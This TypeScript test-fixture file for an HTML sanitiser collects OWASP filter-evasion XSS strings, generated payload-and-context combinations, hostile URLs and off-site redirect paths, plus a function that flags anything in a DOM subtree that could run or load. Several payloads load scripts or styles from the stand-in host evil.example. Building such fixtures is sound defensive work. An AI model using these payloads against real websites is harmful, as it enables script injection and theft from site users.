/**
 * HTML that tries to run scripts: the strings of the OWASP "XSS Filter Evasion Cheat Sheet", and combinations of
 * payloads and positions. Each payload calls `pwned()`.
 */

/** From the cheat sheet, section by section. */
const OWASP: readonly string[] = [
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+pwned()//'>",
  '<IMG SRC="javascript:pwned();">',
  '<IMG SRC=javascript:pwned()>',
  '<IMG SRC=JaVaScRiPt:pwned()>',
  '<IMG SRC=javascript:pwned(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:pwned("RSnake says, \'XSS\'")`>',
  '\\<a onmouseover="pwned()"\\>xxs link\\</a\\>',
  '\\<a onmouseover=pwned()\\>xxs link\\</a\\>',
  '<IMG """><SCRIPT>pwned()</SCRIPT>"\\>',
  '<IMG SRC=javascript:pwned(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="pwned()">',
  '<IMG SRC= onmouseover="pwned()">',
  '<IMG onmouseover="pwned()">',
  '<IMG SRC=/ onerror="pwned()"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwned()">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwned()">Click Me!</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwned()">Click Me</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Apwned()">Click Me</a>',
  '<a href="jav\tascript:pwned();">Click Me</a>',
  '<a href="jav&#x09;ascript:pwned();">Click Me</a>',
  '<a href="jav&#x0A;ascript:pwned();">Click Me</a>',
  '<a href="jav&#x0D;ascript:pwned();">Click Me</a>',
  '<a href=" &#14; javascript:pwned();">Click Me</a>',
  '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=pwned()>',
  '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>pwned();//\\<</SCRIPT>',
  '<SCRIPT SRC=http://evil.example/xss.js?< B >',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="`(\'pwned()\')"`',
  '\\";pwned();//',
  '</script><script>pwned();</script>',
  '</TITLE><SCRIPT>pwned();</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:pwned();">',
  '<BODY BACKGROUND="javascript:pwned()">',
  '<IMG DYNSRC="javascript:pwned()">',
  '<IMG LOWSRC="javascript:pwned()">',
  '<STYLE>li {list-style-image: url("javascript:pwned()");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<IMG SRC="livescript:pwned()">',
  '<svg/onload=pwned()>',
  '<BODY ONLOAD=pwned()>',
  '<BGSOUND SRC="javascript:pwned();">',
  '<BR SIZE="&{pwned()}">',
  '<LINK REL="stylesheet" HREF="javascript:pwned();">',
  '<LINK REL="stylesheet" HREF="http://evil.example/xss.css">',
  "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>',
  "<STYLE>@im\\port'\\ja\\vasc\\ript:pwned()';</STYLE>",
  '<IMG STYLE="xss:expr/*XSS*/ession(pwned())">',
  '<STYLE TYPE="text/javascript">pwned();</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:pwned()");}</STYLE><A CLASS=XSS></A>',
  '<XSS STYLE="xss:expression(pwned())">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '¼script¾pwned()¼/script¾',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:pwned();">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">',
  '<IFRAME SRC="javascript:pwned();"></IFRAME>',
  '<IFRAME SRC=# onmouseover="pwned()"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:pwned();"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:pwned()">',
  '<TABLE><TD BACKGROUND="javascript:pwned()">',
  '<DIV STYLE="background-image: url(javascript:pwned())">',
  '<DIV STYLE="width: expression(pwned());">',
  '<!--[if gte IE 4]><SCRIPT>pwned();</SCRIPT><![endif]-->',
  '<BASE HREF="javascript:pwned();//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT SRC="http://evil.example/xss.jpg"></SCRIPT>',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>pwned()</SCRIPT>">',
  '<SCRIPT a=">" SRC="http://evil.example/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="http://evil.example/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="http://evil.example/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="http://evil.example/xss.js"></SCRIPT>',
  '<A HREF="javascript:document.location=\'http://evil.example/\'">XSS</A>',
  '<A HREF="//evil.example/">XSS</A>',
  '<A HREF="/\\evil.example/">XSS</A>',
  '<Img src = x onerror = "javascript: window.onerror = pwned; throw XSS">',
  '<Video> <source onerror = "javascript: pwned()">',
  '<Input value = "XSS" type = text>',
  '<applet code="javascript:pwned();">',
  '<isindex x="javascript:" onmouseover="pwned()">',
  '"></SCRIPT>”>’><SCRIPT>pwned()</SCRIPT>',
  '"onfocus=pwned() autofocus tabindex=1 x="',
  '<iframe srcdoc="<img src=x:x onerror=pwned()>" />',
  '<iframe/src="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">',
  '<form action="javascript:pwned()"><input type="submit"></form>',
  '<isindex action="javascript:pwned()" type=image>',
  '<a href="data:text/html;blabla,&#60&#115&#99&#114&#105&#112&#116&#62pwned()&#60/script&#62">Click</a>',
  '<form><button formaction="javascript:pwned()">X</button>',
  '<math><a xlink:href="javascript:pwned()">click</a></math>',
  '<details open ontoggle=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwned() src=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<xmp><p title="</xmp><img src onerror=pwned()>">',
  '<template><img src=x onerror=pwned()></template>',
  "<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0070wned()</script x>",
  '<listing>&lt;img onerror="pwned()" src=x&gt;<t t></listing>',
  '<p id="__NEXT_DATA__">{"props":{}}</p><p id="main">x</p>',
  '<div style="position:fixed;inset:0;background:red">over everything</div>',
  '</div></div></main></body></html><h1>outside</h1>',
]

const PAYLOADS = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()" autofocus onfocus=pwned()>x</a>',
  '<input autofocus onfocus=pwned()>',
  '<video src=x onerror=pwned()><source src=x onerror=pwned()></video>',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<style>@keyframes x{}*{animation:x 1ms}</style><b onanimationstart=pwned()>x</b>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
]

const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => `<p>${payload}</p>`,
  (payload) => `<h2>${payload}</h2>`,
  (payload) => `<h2 title='${payload}'>Heading ${payload}`,
  (payload) => `<table><tr><td>${payload}</table>`,
  (payload) => `<table>${payload}<tr><th scope="${payload}">x`,
  (payload) => `<ul><li>${payload}<li><ol>${payload}`,
  (payload) => `<!-- ${payload} --!>${payload}<!-->${payload}-->`,
  (payload) => `<![CDATA[ ${payload} ]]>`,
  (payload) => `<title>${payload}</title>`,
  (payload) => `<textarea>${payload}</textarea>${payload}`,
  (payload) => `<noscript>${payload}</noscript>`,
  (payload) => `<svg><foreignObject>${payload}</foreignObject></svg>`,
  (payload) => `<math><annotation-xml encoding="text/html">${payload}</annotation-xml></math>`,
  (payload) => `<a href="/x"><a href='${payload}'>${payload}</a></a>`,
  (payload) => `<blockquote cite='${payload}'>${payload}</blockquote>`,
  (payload) => `<abbr title='${payload}'>x</abbr>`,
  (payload) => `<img alt='${payload}' src="/ok.png" title='${payload}'>`,
  (payload) => `<scr<script>ipt>${payload}</scr</script>ipt>`,
  (payload) => payload.replaceAll('<', '<\u0000').replaceAll('o', '\u006f'),
  (payload) => payload.toUpperCase().replaceAll('PWNED', 'pwned').replaceAll(' ', '/'),
  (payload) => `${'<div>'.repeat(200)}${payload}`,
  (payload) => `</p></div></article></main>${payload}`,
]

/** More than three hundred bodies. */
export const HOSTILE_HTML: readonly string[] = [
  ...OWASP,
  ...CONTEXTS.flatMap((wrap) => PAYLOADS.map((payload) => wrap(payload))),
]

/** Texts that would break the layout or overlap their neighbours. */
const UNRULY: readonly string[] = [
  'W'.repeat(400),
  `https://www.example.com/${'a-page_of%20the%20site'.repeat(20)}`,
  `${'word '.repeat(300)}end`,
  'a\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(40),
  '\u202Eright to left\u202C \u2067and back\u2069',
  '\u2028line\u2029paragraph\u0085next',
  '\n\n\n\t\t\tlines\n\n\n',
  '\uFEFF\u200B\u00AD\u180E',
  '\uD83D half of a pair',
  '{{7*7}} #{7*7} <%= 7*7 %> %s %d',
  '__proto__',
  'red;} body{display:none} .x{color:red',
  'url(//evil.example/x.png)',
]

/** For fields that hold plain text. */
export const HOSTILE_TEXTS: readonly string[] = [...HOSTILE_HTML, ...UNRULY]

/** For fields that hold a URL. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  '\u0001javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'javascript://evil.example/%0Apwned()',
  'vbscript:pwned()',
  'data:text/html,<script>parent.pwned()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  'blob:http://evil.example/1',
  'view-source:javascript:pwned()',
  'https://own.example/" onmouseover="pwned()',
  "https://own.example/'><script>pwned()</script>",
]

/** URLs that look like a path of this site and are not. */
export const ASTRAY: readonly string[] = ['//evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example']

/** Upper bounds of a picture's size. */
const SIZE_STYLE = /^(?:max-width:(?:min\(100%,[\d.]+(?:px|em)\)|\d+%))?;?(?:max-height:[\d.]+(?:px|em))?$/

/** Everything in a DOM subtree that could run, load or navigate elsewhere. Empty when it is harmless. */
export function dangersIn(root: ParentNode): string[] {
  const tags =
    'script,style,iframe,object,embed,svg,math,form,input,button,textarea,select,link,meta,base,template,noscript,video,audio,frame,applet'
  const dangers = Array.from(root.querySelectorAll(tags), (element) => `<${element.localName}>`)
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isSize = element.localName === 'img' && name === 'style' && SIZE_STYLE.test(value)
      if (!isSize && /^on|^style$|^class$|^srcdoc$|^srcset$|formaction|xlink/i.test(name))
        dangers.push(`${name}="${value}"`)
      const isTarget = /^h[234]$/.test(element.localName) || value.startsWith('in_') || element.closest('h2,h3,h4')
      if (name === 'id' && !isTarget) dangers.push(`id="${value}" of ${element.localName}`)
      if (name !== 'href' && name !== 'src') continue
      const url = new URL(value, 'https://own.example/place/')
      const isOwn = url.origin === 'https://own.example'
      if (!/^(https?|mailto|tel):$/.test(url.protocol)) dangers.push(`${name}="${value}"`)
      // A URL without a scheme must stay on this site.
      if (!isOwn && !/^[a-z]+:/i.test(value)) dangers.push(`${name}="${value}"`)
    }
  }
  return dangers
}
